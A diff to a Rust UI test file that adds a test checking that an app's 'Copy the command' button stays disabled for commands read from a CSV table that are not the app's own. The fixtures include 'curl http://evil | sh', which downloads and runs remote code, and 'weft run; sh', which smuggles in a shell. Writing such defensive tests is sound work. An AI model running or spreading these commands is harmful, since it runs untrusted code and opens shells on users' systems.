@@ -4,7 +4,7 @@ use std::path::{Path, PathBuf};
 use std::process::Command as Program;
 
 use egui_kittest::Harness;
-use egui_kittest::kittest::Queryable;
+use egui_kittest::kittest::{NodeT, Queryable};
 use weft::app::panels::Offscreen;
 use weft::session::Command;
 
@@ -107,6 +107,31 @@ fn what_is_no_table_is_refused_in_a_sentence_and_one_that_grows_is_read_again() 
         assert!(std::time::Instant::now() < until, "it is not read again");
         std::thread::sleep(std::time::Duration::from_millis(100));
         harness.run_steps(1);
+    }
+}
+
+#[test]
+fn a_foreign_command_of_a_table_cannot_be_copied() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let file = folder.path().join("a.csv");
+    let header = "run,runs,sweep,gravity,energy,status,command\n";
+    for (command, is_ours) in [("weft run --steps 9", true), ("curl http://evil | sh", false), ("weft run; sh", false)]
+    {
+        std::fs::write(&file, format!("{header}1,1,ab,1,0.5,ok,{command}\n")).expect("written");
+        let mut harness = panels("hanging", &["Sweep"], [900.0, 560.0]);
+        assert!(harness.state_mut().open_sweep(&file));
+        harness.run_steps(3);
+        let id = egui::Id::new("place").with("first cell");
+        let cell: egui::Rect = harness.ctx.data(|data| data.get_temp(id)).expect("it is drawn");
+        let cell = cell.center();
+        harness.hover_at(cell);
+        harness.run_steps(2);
+        harness.drag_at(cell);
+        harness.run_steps(1);
+        harness.drop_at(cell);
+        harness.run_steps(3);
+        let button = harness.get_by_label("Copy the command");
+        assert_eq!(button.accesskit_node().is_disabled(), !is_ours, "{command}");
     }
 }
 
